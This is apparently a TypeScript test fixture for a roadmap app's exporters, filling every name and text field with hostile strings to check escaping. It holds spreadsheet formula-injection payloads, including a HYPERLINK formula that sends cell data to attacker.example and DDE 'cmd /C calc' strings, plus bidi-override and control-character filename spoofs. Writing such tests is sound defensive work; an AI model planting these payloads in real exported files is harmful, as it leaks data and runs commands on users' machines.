import type { Roadmap } from "../schema";
import { createB2bSubscriptionRoadmap } from "../templates/b2bSubscriptionSoftware";

/**
 * Hostile text for the exporters' and the command line's tests: what a client's
 * file may hold in any name, note or trigger.
 */

/** Text a spreadsheet would run as a formula, or that calendar-to-sheet conversions pass on. */
export const FORMULA_INJECTIONS = [
  '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "-1+1",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
] as const;

/** Names that read fine and print as something else: control characters, bidi overrides, lone surrogates. */
export const TRICKY_NAMES = [
  "Bell\u0007 and escape\u001b[31m red",
  "Invoice \u202Egnp.exe",
  "Isolate \u2066abc\u2069 end",
  "NUL \u0000 inside",
  "Lone \uD800 surrogate",
  "Zero\u200Bwidth\uFEFFjoiners",
];

/** Every name and free text of the roadmap replaced by one of `texts`, in turn. */
export function everyText(roadmap: Roadmap, texts: readonly string[]): Roadmap {
  let turn = 0;
  const next = () => texts[turn++ % texts.length] as string;
  return {
    ...roadmap,
    name: next(),
    client: next(),
    preparedBy: next(),
    notes: next(),
    stages: roadmap.stages.map((stage) => ({ ...stage, name: next(), description: next() })),
    phases: roadmap.phases.map((phase) => ({
      ...phase,
      name: next(),
      description: next(),
      customerLifestage: next(),
      objectives: [next()],
      productsHeld: [next()],
      kpis: phase.kpis.map((kpi) => ({ ...kpi, name: next(), unit: next().slice(0, 40), timeframe: next() })),
    })),
    transitions: roadmap.transitions.map((transition) => ({ ...transition, trigger: next() })),
    segments: roadmap.segments.map((segment) => ({ ...segment, name: next() })),
    owners: roadmap.owners.map((owner) => ({ ...owner, name: next() })),
    channels: roadmap.channels.map((channel) => ({ ...channel, name: next() })),
    roles: roadmap.roles.map((role) => ({ ...role, name: next() })),
    communications: roadmap.communications.map((communication) => ({ ...communication, name: next(), notes: next() })),
  };
}

/** The app's template with every name and text field a formula injection string, in turn. */
export function formulaInjectedRoadmap(now = new Date("2027-01-01T00:00:00.000Z")): Roadmap {
  return everyText(createB2bSubscriptionRoadmap(now), FORMULA_INJECTIONS);
}
